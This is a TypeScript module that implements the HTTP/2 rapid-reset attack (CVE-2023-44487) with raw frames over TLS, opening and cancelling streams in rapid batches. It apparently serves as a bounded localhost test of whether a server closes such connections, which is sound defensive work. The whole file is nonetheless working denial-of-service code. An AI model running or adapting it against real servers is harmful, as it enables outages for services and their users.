// A rapid-reset client (CVE-2023-44487) written with raw HTTP/2 frames over TLS: it opens streams and
// resets each at once, in a loop, as fast as its socket takes them. Node's own http2 client cannot do
// this: its session queues the frames behind its write and stops reading the socket, so it never learns
// that the server cut it off.
import { connect } from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
const END_STREAM_AND_HEADERS = 0x5;
const CANCEL = 0x8;

export interface RapidResetResult {
  /** Streams opened and reset before the server closed the connection (or the bounds ran out). */
  streams: number;
  /** The server closed the connection. */
  closed: boolean;
  /** The error codes of the GOAWAY frames the server sent, in order. */
  goaway: number[];
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: GET, https, and a path and authority as literals without indexing (RFC 7541 §6.2.2). */
function requestBlock(authority: string, path: string): Buffer {
  const literal = (index: number, value: string): Buffer =>
    Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, 'latin1')]);
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, authority)]);
}

/**
 * Opens and resets streams in batches until the server closes the connection or `maxStreams` are sent;
 * gives up waiting for the close after `maxMs`.
 */
export function rapidReset(options: {
  port: number;
  servername: string;
  ca: string | Buffer;
  authority: string;
  path: string;
  maxStreams: number;
  maxMs: number;
}): Promise<RapidResetResult> {
  return new Promise((resolve) => {
    const result: RapidResetResult = { streams: 0, closed: false, goaway: [] };
    const started = Date.now();
    const block = requestBlock(options.authority, options.path);
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(CANCEL, 0);
    let received = Buffer.alloc(0);
    const socket = connect({
      host: '127.0.0.1',
      port: options.port,
      servername: options.servername,
      ca: options.ca,
      ALPNProtocols: ['h2'],
    });
    const finish = (): void => {
      socket.destroy();
      resolve(result);
    };
    socket.on('error', () => {});
    socket.on('close', () => {
      result.closed = true;
      finish();
    });
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received[3] === TYPE.GOAWAY && length >= 8) result.goaway.push(received.readUInt32BE(13));
        received = received.subarray(9 + length);
      }
    });
    const batch = (): void => {
      if (socket.destroyed) return;
      if (result.streams >= options.maxStreams) return; // written all; waits for the close
      if (Date.now() - started > options.maxMs) {
        finish();
        return;
      }
      const frames: Buffer[] = [];
      // Few at a time, so that the streams open at once stay under the server's concurrency limit, as
      // in the real attack: past it, the server refuses streams instead of serving and losing them.
      for (let i = 0; i < 20; i++) {
        const id = 2 * result.streams++ + 1;
        frames.push(frame(TYPE.HEADERS, END_STREAM_AND_HEADERS, id, block));
        frames.push(frame(TYPE.RST_STREAM, 0, id, rst));
      }
      socket.write(Buffer.concat(frames), () => setTimeout(batch, 1));
    };
    setTimeout(finish, options.maxMs).unref();
    socket.once('secureConnect', () => {
      socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]));
      batch();
    });
  });
}
